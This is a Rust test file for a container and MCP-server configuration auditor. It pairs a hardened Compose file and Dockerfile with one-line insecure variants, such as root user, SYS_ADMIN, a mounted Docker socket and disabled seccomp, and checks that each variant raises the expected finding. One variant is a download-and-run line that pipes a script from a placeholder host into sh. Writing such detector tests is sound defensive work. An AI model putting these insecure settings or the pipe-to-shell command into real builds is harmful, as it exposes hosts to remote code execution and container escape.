//! Pairs of trees that differ in one line, and in one verdict: the line is what the check looks at, and nothing else is.
#![allow(clippy::unwrap_used, clippy::disallowed_methods, reason = "tests make trees")]

use std::collections::BTreeSet;
use std::fs;

use plimsoll::{Request, audit};

const DIGEST: &str = "sha256:3b7f3d1c2a9e4f5b6c7d8e9f0a1b2c3d4e5f60718293a4b5c6d7e8f901234567";

const COMPOSE: &str = "\
services:
  orders:
    image: registry.internal/orders:1.2.0@DIGEST
    user: \"10001:10001\"
    read_only: true
    cap_drop: [ALL]
    cap_add: []
    privileged: false
    security_opt: [\"no-new-privileges:true\", \"seccomp:./calls.json\"]
    mem_limit: 256m
    cpus: 0.5
    pids_limit: 64
    devices: []
    ipc: private
    networks: [data]
    ports: [\"127.0.0.1:8000:8000\"]
    tmpfs: [\"/tmp:noexec,nosuid,size=16m\"]
    environment:
      TZ: UTC
    volumes:
      - ./data:/data:ro
networks:
  data:
    internal: true
";

const DOCKERFILE: &str = "\
FROM python:3.13.9-slim@DIGEST
ENV TZ=UTC
COPY server.py /app/
RUN pip install --no-cache-dir mcp==1.23.0
USER 10001:10001
CMD [\"python\", \"/app/server.py\"]
";

const CLIENT: &str = "\
{
  \"mcpServers\": {
    \"orders\": {
      \"command\": \"docker\",
      \"args\": [\"compose\", \"run\", \"--rm\", \"-T\", \"orders\"]
    }
  }
}
";

const SERVER: &str = "from mcp.server.fastmcp import FastMCP\n\nmcp = FastMCP(\"orders\")\nmcp.run()\n";
const CALLS: &str = "{\"defaultAction\": \"SCMP_ACT_ERRNO\", \"syscalls\": [{\"names\": [\"read\"]}]}\n";

/// Check, file, what stands there, what stands there instead.
const PAIRS: &[(&str, &str, &str, &str)] = &[
    ("runs-as-root", "compose.yaml", "user: \"10001:10001\"", "user: \"0:0\""),
    ("writable-root", "compose.yaml", "read_only: true", "read_only: false"),
    ("capabilities-not-dropped", "compose.yaml", "cap_drop: [ALL]", "cap_drop: [NET_RAW]"),
    ("dangerous-capability", "compose.yaml", "cap_add: []", "cap_add: [SYS_ADMIN]"),
    ("unneeded-capability", "compose.yaml", "cap_add: []", "cap_add: [NET_BIND_SERVICE]"),
    ("privilege-escalation-allowed", "compose.yaml", "no-new-privileges:true", "no-new-privileges:false"),
    ("syscall-filter-off", "compose.yaml", "seccomp:./calls.json", "seccomp:unconfined"),
    ("no-memory-limit", "compose.yaml", "mem_limit: 256m", "mem_limit: 0"),
    ("no-cpu-limit", "compose.yaml", "cpus: 0.5", "cpus: 0"),
    ("no-process-limit", "compose.yaml", "pids_limit: 64", "pids_limit: -1"),
    ("host-device", "compose.yaml", "devices: []", "devices: [/dev/mem]"),
    ("host-namespace", "compose.yaml", "ipc: private", "ipc: host"),
    ("unrestricted-egress", "compose.yaml", "internal: true", "internal: false"),
    ("published-on-all-interfaces", "compose.yaml", "127.0.0.1:8000:8000", "8000:8000"),
    ("exec-tmpfs", "compose.yaml", "/tmp:noexec,", "/tmp:exec,"),
    ("secret-in-environment-block", "compose.yaml", "TZ: UTC", "DB_PASSWORD: ${DB_PASSWORD}"),
    ("container-socket-mounted", "compose.yaml", "./data:/data:ro", "/run/docker.sock:/data:ro"),
    ("broad-mount", "compose.yaml", "./data:/data:ro", "/etc:/data:ro"),
    ("writable-mount", "compose.yaml", "./data:/data:ro", "./data:/data"),
    ("shared-propagation", "compose.yaml", "./data:/data:ro", "./data:/data:ro,rshared"),
    ("image-without-digest", "compose.yaml", "orders:1.2.0@DIGEST", "orders:1.2.0"),
    ("image-without-digest", "Dockerfile", "slim@DIGEST", "slim"),
    ("secret-in-image-layer", "Dockerfile", "ENV TZ=UTC", "ARG DB_PASSWORD"),
    ("secret-in-image-layer", "Dockerfile", "COPY server.py /app/", "COPY server.py .env.local /app/"),
    (
        "download-and-run",
        "Dockerfile",
        "RUN pip install --no-cache-dir mcp==1.23.0",
        "RUN curl -s https://a.example/x | sh",
    ),
];

/// Pairs whose line is looked at by several checks, since one thing follows from the other.
const SEVERAL: &[(&[&str], &str, &str, &str)] = &[
    (&["privileged", "syscall-filter-missing"], "compose.yaml", "privileged: false", "privileged: true"),
    (&["floating-image", "image-without-digest"], "compose.yaml", "orders:1.2.0@DIGEST", "orders:latest"),
    (
        &["no-runtime-boundary", "unrestricted-egress"],
        ".mcp.json",
        "[\"compose\", \"run\", \"--rm\",",
        "[\"context\",\"ls\",",
    ),
];

fn failing(change: Option<(&str, &str, &str)>) -> BTreeSet<String> {
    let folder = tempfile::tempdir().unwrap();
    for (path, text) in [
        ("compose.yaml", COMPOSE),
        ("Dockerfile", DOCKERFILE),
        (".mcp.json", CLIENT),
        ("server.py", SERVER),
        ("calls.json", CALLS),
    ] {
        let text = match change.filter(|(file, ..)| *file == path) {
            Some((_, old, new)) => {
                assert_eq!(text.matches(old).count(), 1, "{old} stands once in {path}");
                text.replace(old, new)
            }
            None => text.to_string(),
        };
        fs::write(folder.path().join(path), text.replace("DIGEST", DIGEST)).unwrap();
    }
    let request = Request { today: "2026-11-21".into(), threads: Some(1), ..Request::new(folder.path()) };
    let report = audit(&request).unwrap();
    report.assessment.findings.iter().map(|finding| finding.check.clone()).collect()
}

#[test]
fn one_line_turns_one_verdict() {
    let base = failing(None);
    let one = PAIRS.iter().map(|(check, file, old, new)| (vec![*check], *file, *old, *new));
    let several = SEVERAL.iter().map(|(checks, file, old, new)| (checks.to_vec(), *file, *old, *new));
    let mut wrong = Vec::new();
    for (checks, file, old, new) in one.chain(several) {
        let after = failing(Some((file, old, new)));
        let turned: Vec<&str> = base.symmetric_difference(&after).map(String::as_str).collect();
        if turned != checks {
            wrong.push(format!("{old} -> {new} in {file}: turned {turned:?} instead of {checks:?}"));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}
